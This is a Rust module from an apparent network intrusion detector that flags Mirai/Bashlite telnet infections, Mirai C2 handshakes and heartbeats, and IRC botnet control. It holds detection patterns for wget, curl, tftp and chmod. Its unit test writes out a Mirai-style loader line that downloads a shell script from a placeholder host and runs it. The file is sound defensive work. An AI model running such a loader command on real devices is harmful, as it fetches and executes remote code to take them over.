//! Botnet behaviour: Mirai/Bashlite infection over telnet, Mirai's C2
//! handshake, periodic heartbeats on unparsed flows, and IRC-style C2.
//!
//! (A local device that *starts* scanning or flooding is linked to a botnet
//! alert by [`crate::Attacks`], which sees every detector's output.)
//!
//! State per flow (capped, keyed by flow id): a few flags and, for
//! heartbeats, running interval statistics. Only packets with a payload
//! touch it.

use std::net::IpAddr;

use ward_core::flow::{Dir, Flow};
use ward_core::{AlertCategory, PacketContext, Timestamp};
use ward_proto::{AppEvent, AppProto};

use crate::alert::{secs, who, Draft};
use crate::config::BotnetConfig;
use crate::table::CappedMap;

const NAME: &str = "botnet";

// Telnet-session indicators.
const SHELL_ESCAPE: u8 = 1; // enable / system / shell / sh
const BUSYBOX_PROBE: u8 = 1 << 1; // /bin/busybox MIRAI, ECCHI, random applet
const DOWNLOAD: u8 = 1 << 2; // wget / tftp / curl of a file
const EXEC: u8 = 1 << 3; // chmod +x / chmod 777 / ./file
                         // IRC indicators.
const IRC_NICK: u8 = 1 << 4;
const IRC_USER: u8 = 1 << 5;
const IRC_JOIN: u8 = 1 << 6;
const IRC_PRIVMSG: u8 = 1 << 7;

#[derive(Clone, Copy, Default)]
struct FlowState {
    marks: u8,
    reported: u8,
    mirai_hello: bool,
    first: Timestamp,
    last_beat: Option<Timestamp>,
    beats: u32,
    mean: f64,
    m2: f64,
    commands: u32,
}

pub struct Botnet {
    cfg: BotnetConfig,
    flows: CappedMap<u64, FlowState>,
}

impl Botnet {
    pub fn new(cfg: BotnetConfig, cap: usize) -> Self {
        Botnet {
            cfg,
            flows: CappedMap::new(cap),
        }
    }

    pub fn on_packet(&mut self, ctx: &PacketContext<'_, '_>, out: &mut Vec<Draft>) {
        let Some(flow) = ctx.flow else { return };
        if ctx.app.is_empty() && ctx.pkt.payload.is_empty() {
            return;
        }
        let now = ctx.pkt.ts;
        for ev in ctx.app {
            if let AppEvent::Command(line) = ev {
                let m = command_marks(line);
                let st = self.flows.entry(flow.id, || FlowState {
                    first: now,
                    ..FlowState::default()
                });
                st.marks |= m;
                st.commands += 1;
                self.check_infection(flow, now, ctx, out);
            }
        }
        if ctx.dir != Some(Dir::ToServer) {
            return;
        }
        let p = ctx.pkt.payload;
        if p.is_empty() {
            return;
        }
        // IRC registration/commands: only payloads starting like one.
        if matches!(p[0], b'N' | b'U' | b'J' | b'P') {
            let m = irc_marks(p);
            if m != 0 {
                let st = self.flows.entry(flow.id, || FlowState {
                    first: now,
                    ..FlowState::default()
                });
                st.marks |= m;
                self.check_irc(flow, now, ctx, out);
            }
        }
        // Mirai bot → C2 hello: 00 00 00 01 as the flow's first bytes.
        let sent = ctx.pkt.payload_len();
        let first_bytes = u64::from(flow.payload_bytes[0]) == sent as u64;
        if flow.proto == 6 && first_bytes && p.len() <= 40 && p.starts_with(&[0, 0, 0, 1]) {
            let ok = p.len() == 4 || p.get(4).is_some_and(|n| p.len() == 5 + *n as usize);
            if ok {
                let st = self.flows.entry(flow.id, || FlowState {
                    first: now,
                    ..FlowState::default()
                });
                st.mirai_hello = true;
            }
        }
        // Heartbeats: tiny payloads on a flow no parser understood (or one
        // mistaken for telnet by its port, as Mirai's C2 on 23 is).
        let unparsed = matches!(flow.app_proto, None | Some(AppProto::Telnet));
        // By the size sent: a bulk segment a snap length cut is no beat.
        if unparsed && sent <= self.cfg.heartbeat_max_payload && !first_bytes {
            self.beat(flow, now, p, ctx, out);
        }
    }

    fn beat(
        &mut self,
        flow: &Flow,
        now: Timestamp,
        p: &[u8],
        ctx: &PacketContext<'_, '_>,
        out: &mut Vec<Draft>,
    ) {
        let cfg = &self.cfg;
        let st = self.flows.entry(flow.id, || FlowState {
            first: now,
            ..FlowState::default()
        });
        if let Some(prev) = st.last_beat {
            let dt = now.since(prev) as f64 / 1e6;
            if dt < cfg.heartbeat_min_secs / 2.0 {
                return; // part of a burst, not a beat
            }
            st.beats += 1;
            let delta = dt - st.mean;
            st.mean += delta / f64::from(st.beats);
            st.m2 += delta * (dt - st.mean);
        }
        st.last_beat = Some(now);
        let zeros = p.iter().all(|b| *b == 0);
        let mirai = st.mirai_hello && zeros && st.beats >= 2;
        let regular = st.beats >= cfg.heartbeat_beats && {
            let sd = (st.m2 / f64::from(st.beats)).sqrt();
            let cv = if st.mean > 0.0 {
                sd / st.mean
            } else {
                f64::MAX
            };
            cv <= cfg.heartbeat_max_cv
                && st.mean >= cfg.heartbeat_min_secs
                && st.mean <= cfg.heartbeat_max_secs
        };
        const R_MIRAI: u8 = 1;
        const R_BEAT: u8 = 2;
        let (Some(client), Some(server)) = (flow.src_ip, flow.dst_ip) else {
            return;
        };
        if mirai && st.reported & R_MIRAI == 0 {
            st.reported |= R_MIRAI | R_BEAT;
            let mut d = base("mirai-c2-session", client, server, flow, st.first, now);
            d.severity = 1;
            d.confidence = 0.9;
            d.count = u64::from(st.beats);
            d = d
                .ev("keepalives", st.beats)
                .ev("interval_s", (st.mean * 100.0).round() / 100.0)
                .ev("port", flow.dst_port);
            d.summary = format!(
                "{} is talking to a botnet controller at {}:{} the way Mirai bots do (hello, then keep-alives every {:.0} s): it is probably infected.",
                who(ctx.devices, client),
                who(ctx.devices, server),
                flow.dst_port,
                st.mean
            );
            out.push(d);
        } else if regular && st.reported & R_BEAT == 0 {
            st.reported |= R_BEAT;
            let sd = (st.m2 / f64::from(st.beats)).sqrt();
            let mut d = base("c2-heartbeat", client, server, flow, st.first, now);
            d.severity = 3;
            d.confidence = 0.5;
            d.count = u64::from(st.beats);
            d = d
                .ev("beats", st.beats)
                .ev("interval_s", (st.mean * 100.0).round() / 100.0)
                .ev("interval_sd_s", (sd * 1000.0).round() / 1000.0)
                .ev("payload_bytes", p.len())
                .ev("port", flow.dst_port);
            d.summary = format!(
                "{} sends a tiny message to {}:{} every {:.0} seconds like clockwork on a connection no known protocol explains, which is how botnet malware checks in.",
                who(ctx.devices, client),
                who(ctx.devices, server),
                flow.dst_port,
                st.mean
            );
            out.push(d);
        }
    }

    fn check_infection(
        &mut self,
        flow: &Flow,
        now: Timestamp,
        ctx: &PacketContext<'_, '_>,
        out: &mut Vec<Draft>,
    ) {
        let Some(st) = self.flows.get_mut(&flow.id) else {
            return;
        };
        let (Some(client), Some(server)) = (flow.src_ip, flow.dst_ip) else {
            return;
        };
        let decisive = st.marks & (BUSYBOX_PROBE | DOWNLOAD) != 0
            || st.marks & (SHELL_ESCAPE | EXEC) == SHELL_ESCAPE | EXEC;
        const R_INFECT: u8 = 4;
        if !decisive || st.reported & R_INFECT != 0 {
            return;
        }
        st.reported |= R_INFECT;
        let mut found = Vec::new();
        for (bit, name) in [
            (SHELL_ESCAPE, "shell-escape"),
            (BUSYBOX_PROBE, "busybox-probe"),
            (DOWNLOAD, "download"),
            (EXEC, "execute"),
        ] {
            if st.marks & bit != 0 {
                found.push(name);
            }
        }
        let mut d = base(
            "mirai-telnet-infection",
            client,
            server,
            flow,
            st.first,
            now,
        );
        d.severity = 1;
        d.confidence = if st.marks & BUSYBOX_PROBE != 0 {
            0.95
        } else {
            0.8
        };
        d.count = u64::from(st.commands);
        d = d
            .ev("indicators", found.clone())
            .ev("commands", st.commands);
        d.summary = format!(
            "{} logged in to {} over telnet and typed the commands a Mirai-style botnet uses to take over a device ({}).",
            who(ctx.devices, client),
            who(ctx.devices, server),
            found.join(", ")
        );
        out.push(d);
    }

    fn check_irc(
        &mut self,
        flow: &Flow,
        now: Timestamp,
        ctx: &PacketContext<'_, '_>,
        out: &mut Vec<Draft>,
    ) {
        let Some(st) = self.flows.get_mut(&flow.id) else {
            return;
        };
        let (Some(client), Some(server)) = (flow.src_ip, flow.dst_ip) else {
            return;
        };
        let reg = st.marks & (IRC_NICK | IRC_USER) == IRC_NICK | IRC_USER;
        let irc_port = (6660..=6669).contains(&flow.dst_port) || flow.dst_port == 6697;
        let chat = st.marks & (IRC_JOIN | IRC_PRIVMSG) != 0;
        const R_IRC: u8 = 8;
        if !(reg && (chat || irc_port)) || st.reported & R_IRC != 0 {
            return;
        }
        st.reported |= R_IRC;
        let mut d = base("irc-c2", client, server, flow, st.first, now);
        d.severity = 2;
        d.confidence = if irc_port { 0.6 } else { 0.7 };
        d = d
            .ev("port", flow.dst_port)
            .ev("joined_channel", st.marks & IRC_JOIN != 0);
        d.summary = format!(
            "{} signed in to an IRC chat server at {}:{}, a classic way for botnets (Bashlite, Tsunami) to receive orders.",
            who(ctx.devices, client),
            who(ctx.devices, server),
            flow.dst_port
        );
        out.push(d);
    }
}

fn base(
    sig: &'static str,
    client: IpAddr,
    server: IpAddr,
    flow: &Flow,
    first: Timestamp,
    now: Timestamp,
) -> Draft {
    let mut d = Draft::new(AlertCategory::Botnet, sig, NAME, now);
    d.attacker = Some(client);
    d.attacker_port = flow.src_port;
    d.victims = vec![server];
    d.victim_port = flow.dst_port;
    d.proto = Some(flow.proto);
    d.first_seen = first.min(now);
    d.evidence
        .insert("duration_s".into(), secs(first.min(now), now).into());
    d
}

/// Indicators in one typed command line.
fn command_marks(line: &str) -> u8 {
    let mut m = 0;
    for part in line.split([';', '|', '&', '\n']) {
        let w = part.trim();
        if matches!(w, "enable" | "system" | "shell" | "sh" | "linuxshell") {
            m |= SHELL_ESCAPE;
        }
        let mut words = w.split_whitespace();
        let first = words.next().unwrap_or("");
        let (cmd, arg) = if first.ends_with("busybox") {
            (words.next().unwrap_or(""), words.next())
        } else {
            (first, words.next())
        };
        if first.ends_with("busybox") {
            // `busybox XYZZY`: an applet that does not exist, asked only to
            // see the error message (Mirai: MIRAI/ECCHI, others: random caps).
            let probe = !cmd.is_empty()
                && cmd.len() <= 16
                && cmd
                    .bytes()
                    .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit());
            if probe {
                m |= BUSYBOX_PROBE;
            }
        }
        let cmd = cmd.rsplit('/').next().unwrap_or(cmd);
        match cmd {
            "tftp" | "ftpget" => m |= DOWNLOAD,
            "wget" | "curl" if w.contains("http://") || w.contains("https://") => m |= DOWNLOAD,
            "chmod" if arg.is_some_and(|a| a.contains('7') || a.contains('x')) => m |= EXEC,
            _ => {}
        }
    }
    m
}

/// IRC client commands at the start of lines of one payload.
fn irc_marks(p: &[u8]) -> u8 {
    let mut m = 0;
    for line in p[..p.len().min(512)].split(|b| *b == b'\n') {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        if line.starts_with(b"NICK ") {
            m |= IRC_NICK;
        } else if line.starts_with(b"USER ") && line.len() > 8 {
            m |= IRC_USER;
        } else if line.starts_with(b"JOIN #") || line.starts_with(b"JOIN &") {
            m |= IRC_JOIN;
        } else if line.starts_with(b"PRIVMSG ") {
            m |= IRC_PRIVMSG;
        }
    }
    m
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mirai_loader_commands_are_recognised() {
        assert_eq!(command_marks("enable"), SHELL_ESCAPE);
        assert_eq!(command_marks("/bin/busybox MIRAI"), BUSYBOX_PROBE);
        assert_eq!(command_marks("/bin/busybox ECCHI"), BUSYBOX_PROBE);
        let m = command_marks(
            "cd /tmp; /bin/busybox wget http://10.0.0.1/bins.sh -O bins.sh; /bin/busybox chmod 777 bins.sh; sh bins.sh",
        );
        assert_eq!(m, DOWNLOAD | EXEC);
        assert_eq!(command_marks("ls -la"), 0);
        assert_eq!(command_marks("busybox ls"), 0);
    }

    #[test]
    fn irc_registration_is_recognised() {
        let m = irc_marks(b"NICK bot123\r\nUSER bot 0 * :bot\r\nJOIN #c2\r\n");
        assert_eq!(m, IRC_NICK | IRC_USER | IRC_JOIN);
        assert_eq!(irc_marks(b"POST / HTTP/1.1\r\n"), 0);
    }
}
